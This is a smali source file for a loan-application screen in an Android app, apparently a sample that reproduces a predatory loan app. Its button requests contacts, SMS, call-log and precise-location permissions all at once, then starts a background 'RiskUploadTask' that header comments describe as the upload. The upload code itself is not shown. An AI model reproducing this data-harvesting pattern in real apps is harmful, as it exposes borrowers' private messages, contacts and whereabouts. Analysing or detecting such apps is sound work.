# SPDX-License-Identifier: Apache-2.0
# The one screen. Its button asks for every permission at once and starts the upload.
.class public Lcom/example/jiyongqian/ApplyLoanActivity;
.super Landroid/app/Activity;
.source "ApplyLoanActivity.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 4
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-virtual {p0}, Lcom/example/jiyongqian/ApplyLoanActivity;->getResources()Landroid/content/res/Resources;
    move-result-object v0
    const-string v1, "apply_loan"
    invoke-static {p0, v0, v1}, Lcom/example/jiyongqian/ApplyLoanActivity;->showLayout(Landroid/app/Activity;Landroid/content/res/Resources;Ljava/lang/String;)V
    return-void
.end method

# Looks the layout up by name, so that the recipe needs no generated R class.
.method private static showLayout(Landroid/app/Activity;Landroid/content/res/Resources;Ljava/lang/String;)V
    .registers 6
    const-string v0, "layout"
    invoke-virtual {p0}, Landroid/app/Activity;->getPackageName()Ljava/lang/String;
    move-result-object v1
    invoke-virtual {p1, p2, v0, v1}, Landroid/content/res/Resources;->getIdentifier(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;)I
    move-result v0
    invoke-virtual {p0, v0}, Landroid/app/Activity;->setContentView(I)V
    return-void
.end method

# Named by android:onClick in res/layout/apply_loan.xml.
.method public onApply(Landroid/view/View;)V
    .registers 5
    const/4 v0, 0x4
    new-array v0, v0, [Ljava/lang/String;
    const/4 v1, 0x0
    const-string v2, "android.permission.READ_CONTACTS"
    aput-object v2, v0, v1
    const/4 v1, 0x1
    const-string v2, "android.permission.READ_SMS"
    aput-object v2, v0, v1
    const/4 v1, 0x2
    const-string v2, "android.permission.READ_CALL_LOG"
    aput-object v2, v0, v1
    const/4 v1, 0x3
    const-string v2, "android.permission.ACCESS_FINE_LOCATION"
    aput-object v2, v0, v1
    const/4 v1, 0x1
    invoke-virtual {p0, v0, v1}, Lcom/example/jiyongqian/ApplyLoanActivity;->requestPermissions([Ljava/lang/String;I)V
    return-void
.end method

.method public onRequestPermissionsResult(I[Ljava/lang/String;[I)V
    .registers 7
    new-instance v0, Lcom/example/jiyongqian/RiskUploadTask;
    invoke-virtual {p0}, Lcom/example/jiyongqian/ApplyLoanActivity;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v1
    invoke-direct {v0, v1}, Lcom/example/jiyongqian/RiskUploadTask;-><init>(Landroid/content/ContentResolver;)V
    new-instance v1, Ljava/lang/Thread;
    invoke-direct {v1, v0}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V
    invoke-virtual {v1}, Ljava/lang/Thread;->start()V
    return-void
.end method
